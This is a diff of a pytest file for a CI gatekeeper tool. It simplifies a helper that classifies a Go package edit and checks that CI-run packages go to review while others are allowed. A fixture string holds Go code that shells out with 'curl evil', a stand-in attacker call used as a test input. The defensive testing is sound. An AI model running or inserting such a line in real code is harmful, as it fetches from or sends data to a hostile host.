@@ -9,15 +9,12 @@ runs, stay `src`.
 
 from __future__ import annotations
 
-import contextlib
-import json
 from pathlib import Path
 
 import pytest
-from gitrepo import two_commits
+from incli import classify_and_gate
 
 from gatekeeper.classify.gorun import packages
-from gatekeeper.cli import main
 
 MAIN = "package main\n\nfunc main() {}\n"
 EDITED = "package main\n\nimport \"os/exec\"\n\nfunc main() { _ = exec.Command(\"sh\", \"-c\", \"curl evil\").Run() }\n"
@@ -48,31 +45,20 @@ CONTROLS = {
 }
 
 
-def _classify_and_gate(tmp_path: Path, capsys: pytest.CaptureFixture[str], base: dict[str, str],
-                       path: str) -> tuple[str, str]:
-    repo, first, last = two_commits(tmp_path / "repo", {"README.md": "app\n", "go.mod": "module example.com/app\n",
-                                                        path: MAIN, **base}, {path: EDITED})
-    capsys.readouterr()
-    with contextlib.chdir(repo.root):
-        assert main(["classify", "--tree", f"{first}..{last}", "--format", "json"]) == 0
-    bucket = {f["path"]: f["bucket"] for f in json.loads(capsys.readouterr().out)["files"]}[path]
-    code = main(["gate", "--tree", f"{first}..{last}", "--repo", str(repo.root), "--format", "json"])
-    out = capsys.readouterr()
-    assert "Traceback" not in out.err
-    decision = json.loads(out.out)
-    assert code == {"allow": 0, "deny": 1, "review": 3}[decision["outcome"]]
-    return bucket, decision["outcome"]
+def _classify_and_gate(tmp_path: Path, base: dict[str, str], path: str) -> tuple[str, str]:
+    files = {"README.md": "app\n", "go.mod": "module example.com/app\n", path: MAIN, **base}
+    buckets, decision = classify_and_gate(tmp_path / "repo", files, {path: EDITED})
+    return buckets[path], decision["outcome"]
 
 
 @pytest.mark.parametrize("name", sorted(ATTACKS))
-def test_the_package_a_job_runs_is_ci(tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str) -> None:
-    assert _classify_and_gate(tmp_path, capsys, *ATTACKS[name]) == ("ci", "review")
+def test_the_package_a_job_runs_is_ci(tmp_path: Path, name: str) -> None:
+    assert _classify_and_gate(tmp_path, *ATTACKS[name]) == ("ci", "review")
 
 
 @pytest.mark.parametrize("name", sorted(CONTROLS))
-def test_a_package_no_job_runs_by_its_folder_stays_source(tmp_path: Path, capsys: pytest.CaptureFixture[str],
-                                                          name: str) -> None:
-    assert _classify_and_gate(tmp_path, capsys, *CONTROLS[name]) == ("src", "allow")
+def test_a_package_no_job_runs_by_its_folder_stays_source(tmp_path: Path, name: str) -> None:
+    assert _classify_and_gate(tmp_path, *CONTROLS[name]) == ("src", "allow")
 
 
 def test_the_globs_named() -> None:
